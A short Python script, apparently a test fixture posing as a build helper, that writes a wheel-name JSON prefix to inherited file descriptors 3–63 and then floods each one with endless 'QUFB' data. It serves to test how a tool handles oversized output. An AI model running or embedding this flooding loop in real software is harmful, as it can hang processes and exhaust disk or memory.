"""Reports a wheel of a gigabyte."""

import os

for descriptor in range(3, 64):
    try:
        os.write(descriptor, b'{"merrow_tidelog-1.4.0-py3-none-any.whl": "')
        while True:
            os.write(descriptor, b"QUFB" * 10_000)
    except OSError:
        pass
